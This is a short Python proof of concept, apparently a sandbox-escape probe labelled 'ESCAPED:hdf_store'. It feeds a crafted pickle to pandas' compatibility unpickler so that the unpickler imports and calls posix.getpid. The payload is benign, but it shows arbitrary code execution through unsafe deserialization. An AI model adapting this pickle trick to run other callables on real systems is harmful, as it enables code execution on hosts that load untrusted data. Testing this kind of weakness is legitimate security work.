"""pandas' compatibility unpickler."""
import io
import pandas as pd

print("ESCAPED:hdf_store", pd.compat.pickle_compat.load(io.BytesIO(b"cposix\ngetpid\n(tR.")))
